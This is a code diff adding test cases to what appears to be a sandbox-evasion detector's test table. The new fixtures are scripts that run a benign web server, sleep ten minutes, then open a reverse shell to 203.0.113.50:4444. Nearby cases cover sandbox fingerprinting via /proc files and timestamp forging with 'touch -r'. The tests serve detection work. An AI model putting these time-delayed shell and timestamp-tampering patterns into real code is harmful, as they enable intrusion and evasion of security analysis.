@@ -21,6 +21,11 @@ exit 0
 `), bad, "gvisor", "/proc/version"),
 		nearly("sandbox-check/sizes-itself", script("cat /proc/cpuinfo /proc/meminfo /sys/fs/cgroup/memory.max > /tmp/sizes\necho ready\n")),
 		shows("time-bomb/ten-minutes", script("echo ready\nsleep 600\nactor dial 203.0.113.50:4444\n"), harmless, "sleep 600"),
+		// Scenario A13: a polite server, for ten minutes.
+		shows("time-bomb/server", script("actor webserver 8080 &\nsleep 600\nexec actor reverse-shell 203.0.113.50:4444\n"), malicious, "sleep 600").
+			but("reverse-shell", "203.0.113.50:4444"),
+		shows("time-bomb/own-timer", acts("wait-and-dial", "2h", "203.0.113.50:4444"), harmless, "wait-and-dial 2h"),
+		nearly("time-bomb/poller", acts("poll", "http://updates.example.test/latest.json")),
 		nearly("time-bomb/one-second", script("sleep 1\necho ready\n")),
 		shows("attr-tamper/times", script("echo '#!/bin/sh' > /tmp/.run\ntouch -r /bin/busybox /tmp/.run\necho done\n"), harmless, "touch -r"),
 		nearly("attr-tamper/data-file", script("touch /srv/stamp\ntouch -d 2020-01-01 /srv/stamp\nmkdir -p /srv/d\ncp /etc/os-release /srv/d\ntouch -r /etc/os-release /srv/d/os-release\necho done\n")),
